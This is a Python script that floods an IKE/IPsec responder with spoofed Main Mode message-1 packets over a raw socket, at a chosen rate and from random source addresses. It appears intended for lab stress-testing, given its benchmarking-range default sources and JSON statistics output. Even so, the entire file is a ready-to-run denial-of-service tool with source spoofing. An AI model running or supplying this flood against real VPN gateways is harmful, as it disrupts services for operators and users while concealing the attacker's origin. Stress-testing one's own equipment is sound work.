#!/usr/bin/env python3
"""Spoofed Main Mode message-1 flood at a fixed rate, from random source addresses and
ports, through a raw socket (no scapy in the loop: it cannot keep 10,000 packets/s).

Usage: ike-flood.py TARGET RATE SECONDS [SOURCES_CIDR...]
  TARGET   the responder's IKE address (UDP 500)
  RATE     datagrams per second
  SECONDS  how long
  SOURCES  CIDRs the spoofed sources are drawn from (default 198.19.0.0/16)
Prints one JSON line: sent, seconds, achieved rate, distinct sources.
"""
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

target, rate, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
nets = [ipaddress.IPv4Network(c) for c in (sys.argv[4:] or ["198.19.0.0/16"])]
rnd = random.Random(7)


def mm1(cookie):
    """ISAKMP header + SA(proposal(transform)): AES-CBC-128, SHA2-256, PSK, MODP-2048."""
    attrs = b"".join(struct.pack("!HH", 0x8000 | t, v) for t, v in
                     ((1, 7), (14, 128), (2, 4), (3, 1), (4, 14), (11, 1))) + struct.pack("!HHI", 12, 4, 28800)
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    sa = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal
    return cookie + b"\0" * 8 + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa


def datagram(src):
    body = mm1(os.urandom(8))
    udp = struct.pack("!HHHH", rnd.randrange(1024, 65535), 500, 8 + len(body), 0) + body
    # Version/IHL, TOS, total length, id, frag, TTL, protocol, checksum (the kernel fills it
    # in for IP_HDRINCL), source, destination.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(target))
    return ip + udp


def source():
    n = rnd.choice(nets)
    return str(n.network_address + rnd.randrange(1, n.num_addresses - 1))


# A pool of distinct packets, cycled: 20,000 sources and cookies are plenty for any table.
pool = [datagram(source()) for _ in range(20000)]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
dst = (target, 0)
sent = 0
start = time.monotonic()
end = start + secs
batch = max(1, rate // 1000)  # send in batches of a millisecond's worth
while True:
    now = time.monotonic()
    if now >= end:
        break
    due = int((now - start) * rate)
    while sent < due:
        for _ in range(min(batch, due - sent)):
            try:
                s.sendto(pool[sent % len(pool)], dst)
            except OSError:
                pass
            sent += 1
    time.sleep(0.0005)
took = time.monotonic() - start
print(json.dumps({"sent": sent, "seconds": round(took, 2), "rate": round(sent / took),
                  "sources": len(set(p[12:16] for p in pool[:sent]))}))
